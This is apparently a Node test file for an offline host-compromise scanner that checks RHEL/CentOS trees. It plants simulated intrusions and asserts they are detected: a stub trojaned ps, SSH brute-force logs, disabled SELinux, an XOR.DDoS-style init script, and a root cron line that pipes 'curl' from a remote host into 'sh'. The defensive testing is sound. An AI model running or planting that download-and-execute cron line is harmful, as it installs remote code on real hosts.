import assert from 'node:assert/strict';
import { createHash } from 'node:crypto';
import fs from 'node:fs';
import { after, before, describe, it } from 'node:test';
import { atLeast, type Finding } from '../src/model/finding';
import { scan } from '../src/scan';
import { syslogLines, sshd } from './helpers/auth-log';
import { FakeRoot } from './helpers/fake-root';
import { buildRhelTree } from './helpers/rhel-tree';
import { buildRpms, convertToBdb, DB_LOAD, DNF_TOOLS, dnfInRoot, haveRpmTools } from './helpers/rpm-tree';

// CentOS/RHEL/Rocky trees whose system files come from real rpm packages (rpmbuild + rpm --root),
// examined offline like the Debian trees: clean is silent, planted compromises are found, with
// the rpm database read in both the sqlite (RHEL 9) and Berkeley DB (CentOS 7, RHEL 8) formats.

const NOW = new Date('2026-11-20T12:00:00Z');
const HOURS_AGO = (h: number) => new Date(NOW.getTime() - h * 3600_000);
const ATTACKER = '45.148.10.21';

function loud(findings: Finding[]): string[] {
  return findings.filter((f) => atLeast(f.severity, 'medium')).map((f) => `${f.severity} ${f.rule}: ${f.title}`);
}

/** Files every RHEL server has that no package owns. */
function addHostFiles(root: FakeRoot): void {
  root
    .write('/etc/hostname', 'web01\n')
    .write('/etc/machine-id', 'd3b07384d113edec49eaa6238ad5ff00\n')
    .write('/var/log/secure', syslogLines(HOURS_AGO(30), [sshd.accepted('ops', '10.0.0.5', 'publickey')], 'web01'), {
      mtime: HOURS_AGO(30),
    })
    .write('/var/log/messages', syslogLines(HOURS_AGO(30), ['systemd[1]: Started Command Scheduler.'], 'web01'), { mtime: HOURS_AGO(30) })
    .write('/var/log/cron', syslogLines(HOURS_AGO(30), ['CROND[2101]: (root) CMD (run-parts /etc/cron.hourly)'], 'web01'), {
      mtime: HOURS_AGO(30),
    })
    .write('/etc/localtime', '')
    .mkdir('/home/ops');
}

/** The 002-style intrusion on a CentOS box: brute force, login, trojaned ps, root's cron spool. */
function compromise(root: FakeRoot): void {
  const failures = Array.from({ length: 40 }, (_, i) => sshd.failed('root', ATTACKER, 40000 + i));
  root
    .write('/var/log/secure', syslogLines(HOURS_AGO(6), [...failures, sshd.accepted('root', ATTACKER)], 'web01'), { mtime: HOURS_AGO(5) })
    .write('/usr/bin/ps', Buffer.concat([Buffer.from([0x7f, 0x45, 0x4c, 0x46, 2, 1, 1, 0]), Buffer.alloc(4096, 'trojan')]), {
      mode: 0o755,
      mtime: HOURS_AGO(5),
    })
    .write('/var/spool/cron/root', '*/10 * * * * curl -fsSL http://185.222.58.10/ldr.sh | sh\n', { mode: 0o600, mtime: HOURS_AGO(5) })
    .write('/etc/selinux/config', 'SELINUX=disabled\nSELINUXTYPE=targeted\n', { mtime: HOURS_AGO(5) });
  // cronie's %config /etc/crontab with one line appended: differs from the digest rpm recorded.
  fs.appendFileSync(root.p('/etc/crontab'), '*/5 * * * * root /usr/local/bin/sync.sh\n');
}

describe('rpm-family trees (CentOS / RHEL / Rocky), offline', { skip: !haveRpmTools() && 'rpm/rpmbuild not installed' }, () => {
  const pristine = new FakeRoot('hostsweep-rhel-');
  const roots: FakeRoot[] = [];
  let work = '';
  before(() => {
    work = buildRhelTree(pristine.dir);
    addHostFiles(pristine);
  });
  after(() => {
    for (const r of [pristine, ...roots]) r.remove();
    fs.rmSync(work, { recursive: true, force: true });
  });
  const copy = (): FakeRoot => {
    const r = new FakeRoot('hostsweep-rhel-');
    roots.push(r);
    fs.cpSync(pristine.dir, r.dir, { recursive: true, verbatimSymlinks: true, preserveTimestamps: true });
    return r;
  };

  it('a clean rpm tree (rpmdb.sqlite) is silent at medium and above, and its database is read', async () => {
    const {
      result,
      snapshot: { facts },
    } = await scan({ root: pristine.dir, now: NOW });
    assert.deepEqual(loud(result.findings), []);
    assert.equal(result.stats.ruleErrors.length, 0, JSON.stringify(result.stats.ruleErrors));
    assert.equal(facts.packages?.manager, 'rpm');
    assert.equal(facts.packages?.format, 'rpm-sqlite');
    assert.ok(facts.packages.files.includes('/usr/bin/ps'));
    assert.ok(facts.rpmConfigFiles?.['/etc/crontab'], 'cronie %config digest read');
    assert.deepEqual(
      result.findings.filter((f) => /edited since installation/.test(f.title)).map((f) => f.path),
      [],
      'packaged config files match their rpm digests',
    );
    assert.equal(facts.packageIntegrity?.manager, 'rpm');
    assert.ok((facts.packageIntegrity?.checked ?? 0) >= 15, `verified ${facts.packageIntegrity?.checked} programs`);
    assert.deepEqual(
      result.gaps.filter((g) => g.collector === 'packages' || g.collector === 'packageIntegrity'),
      [],
    );
  });

  it('trojaned ps, root cron spool and a brute force then login in /var/log/secure are found', async () => {
    const r = copy();
    compromise(r);
    const { result } = await scan({ root: r.dir, now: NOW });
    const ps = result.findings.find((f) => f.rule === 'files/replaced-system-binary');
    assert.equal(ps?.severity, 'critical');
    assert.equal(ps?.path, '/usr/bin/ps');
    const trojan = createHash('sha256')
      .update(fs.readFileSync(r.p('/usr/bin/ps')))
      .digest('hex');
    assert.match(ps?.evidence.join('\n') ?? '', new RegExp(`rpm sha256: [0-9a-f]{64}\\nfile sha256: ${trojan}`));
    assert.match(ps?.title ?? '', /procps-ng/);
    const cron = result.findings.find((f) => f.rule === 'persistence/cron-download-exec');
    assert.equal(cron?.path, '/var/spool/cron/root');
    assert.equal(cron?.severity, 'critical');
    const login = result.findings.find((f) => f.rule === 'logs/ssh-login-after-bruteforce');
    assert.equal(login?.severity, 'critical');
    assert.equal(login?.ip, ATTACKER);
    const edited = result.findings.find((f) => f.rule === 'persistence/cron-unowned-file' && f.path === '/etc/crontab');
    assert.match(edited?.title ?? '', /edited since installation/);
    assert.match(edited?.detail ?? '', /checksum rpm recorded/);
    const se = result.findings.find((f) => f.rule === 'hooks/selinux-disabled');
    assert.equal(se?.severity, 'high');
    assert.match(se?.evidence.join('\n') ?? '', /config:1: SELINUX=disabled/);
    // Nothing else that is packaged turned loud: only the planted files are named.
    const paths = new Set(result.findings.filter((f) => atLeast(f.severity, 'high') && f.path).map((f) => f.path));
    for (const p of paths)
      assert.ok(['/usr/bin/ps', '/var/spool/cron/root', '/var/log/secure', '/etc/selinux/config'].includes(p ?? ''), `unexpected ${p}`);
  });

  it('a CentOS 7 / RHEL 8 Berkeley DB Packages gives the same verdicts', {
    skip: !fs.existsSync(DB_LOAD) && 'db5.3-util not installed',
  }, async () => {
    const clean = copy();
    convertToBdb(clean.dir);
    const c = await scan({ root: clean.dir, now: NOW });
    assert.equal(c.snapshot.facts.packages?.format, 'rpm-bdb');
    assert.deepEqual(loud(c.result.findings), []);
    const bad = copy();
    convertToBdb(bad.dir);
    compromise(bad);
    const { result } = await scan({ root: bad.dir, now: NOW });
    assert.deepEqual(
      result.findings.filter((f) => f.rule === 'files/replaced-system-binary').map((f) => [f.severity, f.path]),
      [['critical', '/usr/bin/ps']],
    );
  });

  it('an unpackaged init script in /etc/rc.d/init.d with rc links (XOR.DDoS on CentOS) is found, through the /etc/init.d link too', async () => {
    const r = copy();
    r.write('/usr/bin/qwmdkpcxze', Buffer.concat([Buffer.from([0x7f, 0x45, 0x4c, 0x46]), Buffer.alloc(2048, 1)]), {
      mode: 0o755,
      mtime: HOURS_AGO(5),
    }).write('/etc/rc.d/init.d/qwmdkpcxze', '#!/bin/sh\n# chkconfig: 12345 90 90\n# description: qwmdkpcxze\n/usr/bin/qwmdkpcxze\n', {
      mode: 0o755,
      mtime: HOURS_AGO(5),
    });
    for (const n of [2, 3, 4, 5]) r.symlink(`/etc/rc.d/rc${n}.d/S90qwmdkpcxze`, '../init.d/qwmdkpcxze');
    const { result } = await scan({ root: r.dir, now: NOW });
    const loudRules = new Set(result.findings.filter((f) => atLeast(f.severity, 'high')).map((f) => f.rule));
    assert.ok(
      loudRules.has('persistence/initd-ddos-pattern') || loudRules.has('persistence/initd-suspicious-script'),
      [...loudRules].join(', '),
    );
    assert.ok(loudRules.has('files/unowned-system-executable'), [...loudRules].join(', '));
    assert.ok(
      !result.findings.some((f) => f.path === '/etc/init.d/functions' || f.path === '/etc/rc.d/init.d/functions'),
      'the packaged functions library is owned',
    );
  });

  it('dnf history: masscan installed and selinux-policy removed with dnf are found (real history.sqlite)', {
    skip: !DNF_TOOLS.every((t) => fs.existsSync(t)) && 'dnf/createrepo-c not installed',
  }, async () => {
    const r = copy();
    const { work: built, rpms } = buildRpms([
      { name: 'masscan', files: [{ path: '/usr/bin/masscan', content: 'masscan stand-in', mode: 0o755 }] },
    ]);
    try {
      dnfInRoot(r.dir, rpms, ['install', 'masscan']);
      dnfInRoot(r.dir, rpms, ['remove', 'selinux-policy']);
    } finally {
      fs.rmSync(built, { recursive: true, force: true });
    }
    // dnf stamps transactions with the real clock: judge them an hour later.
    const { result, snapshot } = await scan({ root: r.dir, now: new Date(Date.now() + 3600_000) });
    assert.equal(snapshot.facts.packageHistory?.tool, 'dnf');
    assert.deepEqual(
      snapshot.facts.packageHistory?.transactions.map((t) => t.packages.map((p) => `${p.action} ${p.name}`)),
      [['install masscan'], ['remove selinux-policy']],
    );
    const tx = result.findings.filter((f) => f.rule === 'logs/package-transaction').map((f) => `${f.severity} ${f.title}`);
    assert.equal(tx.length, 2, tx.join('\n'));
    assert.match(tx[0], /^high Attack tools installed with dnf .*: masscan$/);
    assert.match(tx[1], /^high Security packages removed with dnf .*: selinux-policy$/);
    // dnf wrote to the same /var/lib/rpm: masscan is packaged now, not an unowned executable.
    assert.ok(snapshot.facts.packages?.files.includes('/usr/bin/masscan'));
  });
});
